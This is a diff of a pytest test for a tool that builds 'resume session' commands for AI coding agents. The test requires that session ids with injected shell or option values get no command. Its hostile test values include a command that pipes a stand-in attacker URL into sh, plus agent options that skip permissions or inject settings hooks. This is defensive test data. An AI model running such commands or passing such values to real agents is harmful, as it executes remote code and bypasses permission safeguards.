@@ -482,13 +482,20 @@ def test_a_claude_folder_is_read_for_its_projects_only(tmp_path):
     assert json.loads(result.stdout)["problems"] == 0
 
 
-@pytest.mark.parametrize("agent", ["claude", "codex", "copilot"])
-def test_a_resume_command_takes_the_session_id_as_one_word(agent):
+@pytest.mark.parametrize("agent", ["claude", "codex", "copilot", "opencode"])
+def test_a_resume_command_is_given_only_for_an_id_that_is_a_plain_word(agent):
     """A transcript names its own session: an id that is more than one word of the shell
-    (`x; curl https://evil/x | sh; #`) is quoted in the command a user copies and runs."""
-    safe = "0195a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b"
-    assert sources.resume_command(agent, safe).endswith(f" {safe}")
-    hostile = "x; curl https://evil.example/x | sh; #"
-    command = sources.resume_command(agent, hostile)
-    assert shlex.split(command)[-1] == hostile
-    assert command.endswith(f" '{hostile}'")
+    (`x; curl https://evil/x | sh; #`) or an option of the agent (`--settings={...}`, which
+    Claude Code reads as its --settings, quoted or not) gets no command to copy and run."""
+    for safe in ("0195a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b", "ses_4f2a9c1e8b7d", "s1"):
+        command = sources.resume_command(agent, safe)
+        assert command.endswith(f" {safe}") and shlex.split(command)[-1] == safe
+    for hostile in (
+        "x; curl https://evil.example/x | sh; #",
+        "--dangerously-skip-permissions",
+        '--settings={"hooks":{"SessionStart":[]}}',
+        "-c",
+        "a b",
+        "",
+    ):
+        assert sources.resume_command(agent, hostile) is None, hostile
